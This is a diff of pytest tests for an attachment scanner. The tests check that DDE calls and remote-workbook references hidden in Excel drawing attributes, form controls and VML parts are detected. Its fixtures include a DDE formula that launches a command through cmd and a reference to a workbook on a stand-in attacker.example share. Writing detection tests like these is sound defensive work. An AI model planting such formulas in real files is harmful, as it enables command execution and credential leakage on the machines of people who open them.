@@ -1474,3 +1474,47 @@ def test_a_flat_package_word_imports_is_scanned_through_the_pipeline() -> None:
         clean = scanner.scan(_chunk(_flat(docx()), "application/xml", "afchunk1.xml"), "a.docx")
     assert report.status is Status.REJECTED and "DDE" in {f.code.name for f in report.findings}
     assert clean.status is Status.APPROVED, clean.reasons
+
+
+# -- formulas Excel keeps in attributes and in VML form controls ------------------------------
+_XDR = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
+_X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
+_SML = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+_VML_X = "urn:schemas-microsoft-com:office:excel"
+_DDE = "cmd|&apos; /C calc&apos;!A0"
+_SHARE = "&apos;\\\\attacker.example\\s\\[tools.xlsm]Sheet1&apos;!A1"
+_FORMULA_PLACES = {
+    "shape-textlink": f'<xdr:wsDr xmlns:xdr="{_XDR}"><xdr:sp macro="" textlink="{{}}"/></xdr:wsDr>',
+    "picture-macro": f'<xdr:wsDr xmlns:xdr="{_XDR}"><xdr:pic macro="{{}}"/></xdr:wsDr>',
+    "control-range": f'<formControlPr xmlns="{_X14}" objectType="List" fmlaRange="{{}}"/>',
+    "control-link": f'<formControlPr xmlns="{_X14}" objectType="CheckBox" fmlaLink="{{}}"/>',
+    "sheet-control": f'<worksheet xmlns="{_SML}"><controlPr linkedCell="{{}}"/></worksheet>',
+    "vml-link": f'<xml xmlns:x="{_VML_X}"><x:ClientData><x:FmlaLink>{{}}</x:FmlaLink>'
+    "</x:ClientData></xml>",
+    # as Excel writes its VML: an unclosed <br>, read leniently
+    "vml-lenient": f'<xml xmlns:x="{_VML_X}"><x:ClientData><br><x:FmlaRange>{{}}</x:FmlaRange>'
+    "</x:ClientData></xml>",
+}
+
+
+@pytest.mark.parametrize("place", sorted(_FORMULA_PLACES))
+@pytest.mark.parametrize(
+    ("formula", "dde", "remote"),
+    [(_DDE, True, False), (_SHARE, False, True), ("$A$1", False, False)],
+)
+def test_formulas_in_attributes_and_form_controls_are_weighed(
+    place: str, formula: str, dde: bool, remote: bool
+) -> None:
+    """A drawing's text link or macro, a form control's linked cell or input range: Excel
+    evaluates them as formulas, so a DDE call or a workbook on a share there counts as in a
+    cell; a plain reference passes."""
+    from attachguard.formats.ooxml_xml import XmlRejected, lenient_vml
+
+    part = _FORMULA_PLACES[place].format(formula).encode()
+    try:
+        info = read_part(part)
+    except XmlRejected:
+        assert place == "vml-lenient"
+        info = lenient_vml(part)
+    assert info is not None
+    assert (info.dde_formula, info.remote_formula) == (dde, remote)
